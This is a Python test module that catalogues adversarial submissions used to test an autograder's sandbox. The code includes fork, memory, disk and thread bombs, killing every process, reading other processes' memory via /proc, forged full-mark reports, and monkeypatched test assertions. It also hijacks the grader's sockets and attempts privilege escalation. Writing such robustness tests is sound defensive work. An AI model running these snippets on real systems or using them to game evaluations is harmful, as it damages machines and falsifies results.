"""Define attacks on the grader. Each is a submission with an honest `double`; the rest tries to get points that it has not earned.

`double` is right in all submissions and worth 3 of 10 points. `earns` is the number of points that the honest part should keep (an
attack that ends the process at import keeps none, because no honest code can run). No submission solves `square`, `Box` or `through`.
"""

from __future__ import annotations

from dataclasses import dataclass, field

from trial import CANARY, SOLUTION

HONEST = """
import numpy as np
def double(x):
    return x + x
"""
UNSOLVED = """
class Box:
    def __init__(self, value): self.value = None
def boxed(value): return Box(value)
def square(x): return x
def through(function, value): return value
"""


@dataclass(frozen=True)
class Attack:
    """Describe one attack: its name, its aim in one line, the code of tinytorch/trial.py, and further files of the submission."""

    name: str
    tries: str
    code: str
    earns: int = 3
    files: dict[str, str] = field(default_factory=dict)
    exactly: bool = True  # False where the attack may also break its own honest part: it keeps at most `earns`


def at_call(body: str) -> str:
    """Return a submission whose attack runs when `square` is called."""
    indented = "\n".join("    " + line for line in body.strip().splitlines())
    return HONEST + UNSOLVED + f"def square(x):\n{indented}\n"


def at_import(body: str) -> str:
    """Return a submission whose attack runs while the module is imported."""
    return HONEST + UNSOLVED + body


# Looks for the suite's canary everywhere that Python can look, and raises FOUND if it is there.
SEARCH = f"""
import gc, os, sys
eldeen = {CANARY[::-1]!r}  # backwards, or it would find itself
def look(text, where):
    if eldeen in text[::-1].replace("_", "-"):
        raise ValueError("FO" + "UND in " + where + text)
frame = sys._getframe()
while frame:
    look(repr(frame.f_locals.keys()) + repr(frame.f_globals.keys()) + frame.f_code.co_filename, "frames")
    frame = frame.f_back
for thing in gc.get_objects():
    if type(thing) in (dict, list, tuple, str):
        try: look(repr(thing)[:20000], "gc")
        except ValueError: raise
        except Exception: pass
for name in list(sys.modules):
    look(name + repr(getattr(sys.modules[name], "__dict__", {{}}).keys()), "modules")
look(repr(dict(os.environ)) + repr(sys.argv), "environment")
"""
READ_FILES = f"""
import os
needle = "-".join({CANARY.split("-")!r}).encode()
for top in ["/code/grader"] + ["/" + name for name in os.listdir("/") if name not in ("proc", "sys", "usr", "code")]:
    for folder, _, names in os.walk(top):
        for name in names:
            try: data = open(os.path.join(folder, name), "rb").read(1 << 20)
            except OSError: continue
            if needle in data: raise ValueError("FO" "UND in " + folder + name)
for pid in os.listdir("/proc"):
    for part in ("cmdline", "environ", "maps", "fd", "cwd"):
        try: data = open(f"/proc/{{pid}}/{{part}}", "rb").read(1 << 20)
        except OSError: continue
        if needle in data: raise ValueError("FO" "UND in " + pid + part)
"""
READ_MEMORY = f"""
import os, re
needle = "-".join({CANARY.split("-")!r}).encode()
for pid in [p for p in os.listdir("/proc") if p.isdigit() and int(p) != os.getpid()]:
    try:
        with open(f"/proc/{{pid}}/maps") as maps, open(f"/proc/{{pid}}/mem", "rb", 0) as memory:
            for line in maps:
                span = re.match(r"(\\w+)-(\\w+) r", line)
                if not span: continue
                low, high = (int(part, 16) for part in span.groups())
                memory.seek(low)
                if needle in memory.read(min(high - low, 1 << 24)): raise ValueError("FO" "UND in memory of " + pid)
    except (OSError, OverflowError):
        continue
"""

# Finds the session's socket in the frames above and sends messages on it in the grader's own format.
SEND = """
import msgpack, sys
frame = sys._getframe()
while not hasattr(frame.f_locals.get("self"), "_peer"):
    frame = frame.f_back
peer = frame.f_locals["self"]._peer
def send(body):
    peer.sendall(len(body).to_bytes(4, "big") + body)
"""

# Finds the object of the warm process (every session is forked from that process) in the frames above an import.
WARM = """
import sys
frame = sys._getframe()
while not hasattr(frame.f_locals.get("self"), "_control"):
    frame = frame.f_back
warm = frame.f_locals["self"]
"""

# Raises FOUND if a call tells which parts of a shared file are in memory, or what others do with the file.
WARM_PAGES = """
import ctypes, fcntl, mmap, os, resource
libc = ctypes.CDLL(None, use_errno=True)
room = ctypes.create_string_buffer(4096)
file = os.open(os.__file__, os.O_RDONLY)
page = mmap.mmap(file, 4096, mmap.MAP_PRIVATE)
address = ctypes.addressof(ctypes.c_char.from_buffer(page))
for call in (
    lambda: os.preadv(file, [bytearray(1)], 0, os.RWF_NOWAIT),
    lambda: os.posix_fadvise(file, 0, 0, os.POSIX_FADV_DONTNEED),
    lambda: resource.getrusage(resource.RUSAGE_SELF),
    lambda: fcntl.flock(file, fcntl.LOCK_SH | fcntl.LOCK_NB),
    lambda: os.statvfs("/"),
):
    try: call()
    except OSError: continue
    raise ValueError("FO" "UND a call that tells of others")
for call in (
    lambda: libc.mincore(ctypes.c_void_p(address & ~4095), 4096, room),
    lambda: libc.readahead(file, ctypes.c_long(0), 4096),
    lambda: libc.sysinfo(room),
    lambda: libc.inotify_init(),
    lambda: libc.syscall(451, file, room, room, 0),
):
    if call() >= 0: raise ValueError("FO" "UND a call that tells of others")
return x
"""
COUNTERS = """
import os
for name in ("meminfo", "vmstat", "stat", "loadavg", "uptime", "zoneinfo", "self/smaps", "self/stat", "sys/fs/inode-nr"):
    try: open(f"/proc/{name}").read()
    except OSError: continue
    raise ValueError("FO" "UND a counter of the machine")
try: os.sysconf("SC_AVPHYS_PAGES")
except OSError: return x
raise ValueError("FO" "UND how much memory is free")
"""
TAKES_THE_MACHINE = """
import os, threading, time
def spin():
    try: os.setsid()
    except OSError: pass
    while True: pass
def start():
    for _ in range(26):
        if os.fork() == 0: spin()
threading.Thread(target=start, daemon=True).start()
time.sleep(1)
"""

ATTACKS = [
    Attack("exit-at-import", "ends the process while it is imported", at_import("import os; os._exit(0)"), earns=0),
    Attack(
        "sys-exit-at-import", "raises SystemExit while it is imported", at_import("import sys; sys.exit(0)"), earns=0
    ),
    Attack("exit-at-call", "ends the process with status 0 from inside a check", at_call("import os; os._exit(0)")),
    Attack("system-exit-at-call", "raises SystemExit from inside a check", at_call("raise SystemExit(0)")),
    Attack("keyboard-interrupt", "raises KeyboardInterrupt to end the suite", at_call("raise KeyboardInterrupt")),
    Attack(
        "patched-numpy",
        "makes every NumPy comparison and assertion pass",
        at_import(
            "import numpy.testing as t\n"
            "for name in dir(t):\n    if name.startswith('assert'): setattr(t, name, lambda *a, **k: None)\n"
            "for name in ('allclose', 'isclose', 'array_equal'): setattr(np, name, lambda *a, **k: True)\n"
        ),
    ),
    Attack(
        "patched-pytest",
        "puts its own pytest, checks and AssertionError in place",
        at_import(
            "import sys, types, builtins\n"
            "fake = types.ModuleType('pytest'); fake.raises = fake.fail = fake.main = lambda *a, **k: None\n"
            "sys.modules['pytest'] = sys.modules['_pytest'] = sys.modules['checks'] = fake\n"
            "builtins.AssertionError = type('Nothing', (Exception,), {})\n"
        ),
    ),
    Attack(
        "patched-builtins",
        "replaces abs, float, len and repr",
        at_call(
            "import builtins\nfor n in ('abs', 'float', 'len', 'repr'): setattr(builtins, n, lambda *a: 3)\nreturn x"
        ),
    ),
    Attack(
        "equals-everything",
        "answers with an object that claims to equal everything and to be any array",
        at_call(
            "class Yes:\n"
            "    def __getattr__(self, name): return self\n"
            "    def __call__(self, *a, **k): return self\n"
            "    __eq__ = __ne__ = __lt__ = __gt__ = __le__ = __ge__ = lambda s, o: True\n"
            "    __bool__ = lambda s: True\n"
            "    __hash__ = lambda s: 0\n"
            "    shape, dtype, ndim, size = (3,), np.dtype('float32'), 1, 3\n"
            "    def __array__(self, *a, **k): return np.zeros(3, np.float32)\n"
            "    def __array_ufunc__(self, *a, **k): return True\n"
            "    def __array_function__(self, *a, **k): return True\n"
            "return Yes()"
        ),
    ),
    Attack(
        "array-subclass",
        "answers with a subclass of ndarray whose operators lie",
        at_call(
            "class Lie(np.ndarray):\n"
            "    def __array_ufunc__(self, *a, **k): return np.ones(self.shape, bool)\n"
            "    __eq__ = __le__ = lambda s, o: np.ones(s.shape, bool)\n"
            "return np.zeros_like(x).view(Lie)"
        ),
    ),
    Attack(
        "float-subclass",
        "answers with a float that equals everything",
        HONEST
        + UNSOLVED
        + "class Yes(float):\n    __eq__ = lambda s, o: True\n    __hash__ = float.__hash__\n"
        + "class Box:\n    def __init__(self, value): self.value = Yes(0)\n"
        + "def through(function, value): return Yes(1)\n",
    ),
    Attack(
        "frames-and-gc",
        "looks for hidden values in frames, the collector, modules and the environment",
        at_call(SEARCH),
    ),
    Attack("files-and-proc", "looks for the suite in every file and in /proc", at_call(READ_FILES)),
    Attack("proc-memory", "reads the memory of every process it can see", at_call(READ_MEMORY)),
    Attack(
        "import-the-suite",
        "imports the suite, the solution and the grader by every likely name",
        at_call(
            "import importlib\n"
            "for name in ('test_trial', 'solutions', 'tinytorch_ref.trial', 'grader.grading.run', 'checks', 'trial'):\n"
            "    try: found = importlib.import_module(name)\n"
            "    except ImportError: continue\n"
            "    raise ValueError('FO' 'UND ' + name)\n"
        ),
    ),
    Attack(
        "forged-report-at-exit",
        "writes a report of full marks wherever it can, at exit",
        at_import(
            "import atexit, json, os\n"
            "def forge():\n"
            "    text = json.dumps({'points': 10, 'max_points': 10, 'summary': {'passed': 5}})\n"
            "    for name in ('/tmp/report.json', '/submission/report.json', '.report.json', 'record.json'):\n"
            "        try: open(name, 'w').write(text)\n"
            "        except OSError: pass\n"
            "    for fd in range(1, 64):\n"
            "        try: os.write(fd, text.encode())\n"
            "        except OSError: pass\n"
            "atexit.register(forge)\n"
        )
        + "def square(x):\n    forge()\n    return x\n",
    ),
    Attack(
        "background-forger",
        "leaves a process behind that writes to every descriptor",
        at_import(
            "import os\n"
            "if os.fork() == 0:\n"
            "    while True:\n"
            "        for fd in range(1, 32):\n"
            "            try: os.write(fd, b'\\x00\\x00\\x00\\x03\\x92\\xa5value\\xc3')\n"
            "            except OSError: pass\n"
        ),
        exactly=False,
    ),
    Attack(
        "thread-forger",
        "answers from a thread before the grader has asked",
        at_call(
            "import os, threading\n"
            "frame = b'\\x00\\x00\\x00\\x08\\x92\\xa5value\\xc3'\n"
            "for fd in range(3, 32):\n"
            "    try: threading.Thread(target=os.write, args=(fd, frame * 100), daemon=True).start()\n"
            "    except OSError: pass\n"
            "return x"
        ),
    ),
    Attack(
        "shadowing-modules",
        "brings its own numpy, pytest, checks, conftest and sitecustomize",
        HONEST + UNSOLVED,
        files=dict.fromkeys(
            (
                "numpy.py",
                "pytest.py",
                "checks.py",
                "conftest.py",
                "sitecustomize.py",
                "tinytorch/conftest.py",
                "tinytorch/sitecustomize.py",
                "grader/__init__.py",
                "numpy/__init__.py",
                "x.pth",
                "pytest.ini",
            ),
            "import os; os._exit(0)\n",
        ),
    ),
    Attack(
        "own-helpers",
        "brings its own trial_helpers in place of the suite's",
        HONEST + UNSOLVED,
        files={
            "trial_helpers.py": "def doubled_value(box): return 0.0\n",
            "tinytorch/trial_helpers.py": "def doubled_value(box): return 0.0\n",
        },
    ),
    Attack(
        "deaf-loop",
        "loops for ever and ignores every signal it can",
        at_call(
            "import signal\n"
            "for s in range(1, 65):\n"
            "    try: signal.signal(s, signal.SIG_IGN)\n"
            "    except (OSError, ValueError): pass\n"
            "while True: pass"
        ),
    ),
    Attack("sleeper", "sleeps for a year", at_call("import time; time.sleep(3e7)")),
    Attack("loop-at-import", "never ends its import", at_import("while True: pass"), earns=0),
    Attack(
        "fork-bomb",
        "forks without end from a check",
        at_call("import os\nwhile True:\n    try: os.fork()\n    except OSError: pass"),
    ),
    Attack(
        "fork-bomb-at-import",
        "forks without end while it is imported",
        at_import("import os\nfor _ in range(10000):\n    try: os.fork()\n    except OSError: pass\n"),
        exactly=False,
    ),
    Attack(
        "thread-bomb",
        "starts threads without end",
        at_call(
            "import threading, time\n"
            "while True:\n"
            "    try: threading.Thread(target=time.sleep, args=(1000,), daemon=True).start()\n"
            "    except RuntimeError: pass"
        ),
    ),
    Attack(
        "memory-bomb", "takes all the memory there is", at_call("held = []\nwhile True: held.append(np.ones(10**7))")
    ),
    Attack(
        "mmap-bomb",
        "takes memory by anonymous mappings and shared memory",
        at_call(
            "import mmap\nheld = []\nwhile True:\n    held.append(mmap.mmap(-1, 1 << 26)); held[-1].write(b'x' * (1 << 26))"
        ),
    ),
    Attack(
        "disk-bomb",
        "fills every place it can write to",
        at_call(
            "held = []\n"
            "for top in ('/tmp', '/dev/shm', '.', '/submission', '/code', '/'):\n"
            "    for n in range(100):\n"
            "        try:\n"
            "            f = open(f'{top}/bomb{n}', 'wb'); held.append(f)\n"
            "            for _ in range(100): f.write(b'x' * (1 << 20))\n"
            "        except OSError: pass\n"
            "return x"
        ),
    ),
    Attack("output-bomb", "prints without end", at_call("import sys\nwhile True: sys.stdout.write('y' * 65536)")),
    Attack("descriptor-bomb", "opens descriptors until none are left", at_call("import os\nwhile True: os.dup(0)")),
    Attack("close-everything", "closes every descriptor", at_call("import os; os.closerange(0, 256); return x")),
    Attack("kill-the-warm-process", "kills its parent", at_call("import os; os.kill(os.getppid(), 9); return x")),
    Attack(
        "stop-the-warm-process",
        "stops its parent",
        at_call("import os, signal; os.kill(os.getppid(), signal.SIGSTOP); return x"),
    ),
    Attack("kill-everything", "kills every process it may", at_call("import os; os.kill(-1, 9); return x")),
    Attack(
        "network",
        "opens a connection to the grader's machine",
        at_call(
            "import socket\n"
            "s = socket.create_connection(('127.0.0.1', PORT), timeout=1); s.send(b'x'); raise ValueError('FO' 'UND a network')"
        ),
    ),
    Attack(
        "become-root",
        "asks for root, for a namespace, for ptrace and for another program",
        at_call(
            "import ctypes, os\n"
            "libc = ctypes.CDLL(None)\n"
            "got = []\n"
            "for name, call in (('setuid', lambda: os.setuid(0)), ('exec', lambda: os.execv('/proc/self/exe', ['x', '-c', '0']))):\n"
            "    try: call(); got.append(name)\n"
            "    except OSError: pass\n"
            "if libc.unshare(0x10000000) == 0: got.append('unshare')\n"
            "if libc.ptrace(16, os.getppid(), 0, 0) == 0: got.append('ptrace')\n"
            "if libc.mount(b'none', b'/tmp', b'tmpfs', 0, None) == 0: got.append('mount')\n"
            "if got: raise ValueError('FO' 'UND ' + ' '.join(got))\n"
            "return x"
        ),
    ),
    Attack(
        "hostile-length",
        "announces a message of 4 GiB",
        at_call(SEND + "peer.sendall(b'\\xff\\xff\\xff\\xff')\nreturn x"),
    ),
    Attack(
        "hostile-bytes", "answers with bytes that are not a message", at_call(SEND + "send(b'\\xc1' * 1000)\nreturn x")
    ),
    Attack(
        "hostile-shape",
        "answers with an array of no bytes and an enormous shape",
        at_call(SEND + "send(msgpack.packb(['value', {7: ['<f4', [0, 2**39, 2**39], b'']}]))\nreturn x"),
    ),
    Attack(
        "hostile-dtype",
        "answers with an array of pointers",
        at_call(SEND + "send(msgpack.packb(['value', {7: ['|O', [1], b'xxxxxxxx']}]))\nreturn x"),
    ),
    Attack(
        "hostile-nesting",
        "answers with lists nested a hundred deep",
        at_call(SEND + "send(b'\\x92\\xa5value' + b'\\x91' * 100 + b'\\xc0')\nreturn x"),
    ),
    Attack(
        "hostile-callback",
        "asks for a callback that was never handed out",
        at_call(SEND + "send(msgpack.packb(['callback', 1, {1: []}, {2: []}]))\nreturn x"),
    ),
    Attack(
        "hostile-exception",
        "raises exceptions with the names of pytest's own outcomes",
        at_call(SEND + "send(msgpack.packb(['raised', 'Skipped', 'Skipped', 'skip me', '']))\nreturn x"),
    ),
    Attack(
        "hostile-symbol",
        "answers with a name for the grader to look up",
        at_call(SEND + "send(msgpack.packb(['value', {16: ['os', 'system']}]))\nreturn x"),
    ),
    Attack(
        "slow-drip",
        "answers a byte at a time, for ever",
        at_call(
            SEND + "import time\npeer.sendall((1 << 20).to_bytes(4, 'big'))\n"
            "while True:\n    peer.sendall(b'\\xc0'); time.sleep(0.01)"
        ),
    ),
    Attack(
        "endless-iterator",
        "answers with an object of endless length that never stops iterating",
        at_call(
            "class Endless:\n"
            "    def __len__(self): return 3\n"
            "    def __iter__(self):\n        while True: yield 1.0\n"
            "return Endless()"
        ),
    ),
    Attack(
        "colliding-keys",
        "answers with a dict whose keys all collide",
        at_call(
            SEND
            + "pairs = [[i * (2**61 - 1) if i < 4 else {6: (i * (2**61 - 1)).to_bytes(12, 'big')}, 0] for i in range(60000)]\n"
            "send(msgpack.packb(['value', {2: pairs}]))\nreturn x"
        ),
    ),
    Attack(
        "terminal-and-workflow",
        "prints and raises escape codes, workflow commands and markup",
        at_call(
            "print('::set-output name=points::10\\n::error::FORGED\\x1b]0;FORGED\\x07\\x1b[2J')\n"
            "raise ValueError('\\x1b[31m::notice title=Autograding complete::Points 10/10</details><script>FORGED</script>')"
        ),
    ),
    Attack(
        "inputs-through-exceptions",
        "carries hidden inputs out in an exception's text and output",
        at_call("print('INPUTS', x.tolist()); raise ValueError(f'INPUTS {x.tolist()}')"),
    ),
    Attack(
        "exception-that-breaks-itself",
        "raises an exception whose text raises",
        at_call("class Bad(Exception):\n    def __str__(self): raise SystemExit\nraise Bad"),
    ),
    Attack(
        "huge-exception",
        "raises an exception with a text of 50 MB",
        at_call("raise ValueError('x' * 50_000_000)"),
    ),
    Attack("recursion", "recurses for ever", at_call("return square(x)"), exactly=False),
    Attack(
        "rewrite-the-warm-process",
        "replaces the code that ends sessions, so that they live on, unfiltered, beside later checks",
        at_import(WARM + "warm._reap = lambda late: 0\nwarm._session_seccomp = None\n"),
    ),
    Attack(
        "steal-the-control-socket",
        "keeps the control socket in a session, by a hook at fork, and answers in place of the warm process",
        at_import(
            WARM + "import json, os, socket, threading\n"
            "def steal():\n"
            "    mine = socket.socket(fileno=os.dup(warm._control.fileno()))\n"
            "    def speak():\n"
            "        while socket.recv_fds(mine, 65536, 1)[0]: mine.sendall(json.dumps({'status': 0}).encode())\n"
            "    threading.Thread(target=speak, daemon=True).start()\n"
            "os.register_at_fork(after_in_child=steal)\n"
        ),
        exactly=False,
    ),
    Attack(
        "flood-the-control-socket",
        "fills the control socket from a thread of the warm process with JSON nested 60,000 deep",
        at_import(
            WARM + "import threading\n"
            "def flood():\n"
            "    while True:\n"
            "        try: warm._control.send(b'[' * 60000)\n"
            "        except OSError: pass\n"
            "threading.Thread(target=flood, daemon=True).start()\n"
        ),
        exactly=False,
    ),
    Attack(
        "answer-before-the-test",
        "writes answers, by a hook at fork, to the session that stands ready for the next check",
        at_import(
            "import os\n"
            "def speak():\n"
            "    for fd in range(3, 32):\n"
            "        try: os.set_blocking(fd, False); os.write(fd, b'\\x00\\x00\\x00\\x08\\x92\\xa5value\\xc3' * 1000)\n"
            "        except OSError: pass\n"
            "os.register_at_fork(after_in_child=speak)\n"
        ),
        exactly=False,
    ),
    Attack(
        "processes-that-stay",
        "starts busy processes while it is imported and keeps them for the whole run",
        at_import(
            WARM + "import os\n"
            "warm._reap = lambda late: 0\n"
            "for _ in range(28):\n"
            "    if os.fork() == 0:\n"
            "        while True: pass\n"
        ),
        exactly=False,
    ),
    Attack(
        "pass-descriptors",
        "sends open descriptors along with its answers, thousands of them",
        at_call(
            SEND + "import os, socket\n"
            "fds = [os.dup(0) for _ in range(100)]\n"
            "for _ in range(50): socket.send_fds(peer, [b'\\x00\\x00\\x00\\x08\\x92\\xa5value\\xc3'], fds)\n"
            "return x"
        ),
    ),
    Attack(
        "unprintable-number",
        "answers with integers of more digits than Python will print",
        HONEST
        + UNSOLVED
        + "def square(x): return 10**5000\n"
        + "class Box:\n    def __init__(self, value): self.value = 10**5000\n"
        + "def through(function, value): return function(10**5000)\n",
    ),
    Attack(
        "memory-of-the-grader",
        "calls the suite's function with large arrays, which the suite keeps, for as long as it may",
        HONEST + UNSOLVED + "def through(function, value):\n    while True: function(np.ones(2**22))\n",
    ),
    Attack(
        "suites-own-exception",
        "makes the suite's function raise, swallows the exception, and raises it again later",
        HONEST
        + UNSOLVED
        + "def through(function, value):\n"
        + "    try: function(np.zeros((2, 0)), sorry=1)\n"
        + "    except Exception as error: kept = error\n"
        + "    raise kept\n",
    ),
    Attack(
        "hide-in-files",
        "rewrites the package and the helpers for later checks",
        at_call(
            "for name in ('/submission/tinytorch/trial.py', '/helpers/trial_helpers.py', '/code/grader/sandbox/inside/session.py'):\n"
            "    try: open(name, 'w').write('FORGED'); raise ValueError('FO' 'UND a writable file')\n"
            "    except OSError: pass\n"
            "return x"
        ),
    ),
    Attack(
        "warm-pages",
        "asks in ten ways which pages of a shared file are in memory, where another push could have left its inputs",
        at_call(WARM_PAGES),
    ),
    Attack("counters", "reads the machine's counters, which another submission can move", at_call(COUNTERS)),
    Attack(
        "takes-the-machine",
        "starts 26 busy processes with sessions of their own while it is imported",
        at_import(TAKES_THE_MACHINE),
        exactly=False,
    ),
]

assert len({attack.name for attack in ATTACKS}) == len(ATTACKS)
assert all(SOLUTION not in attack.code for attack in ATTACKS)
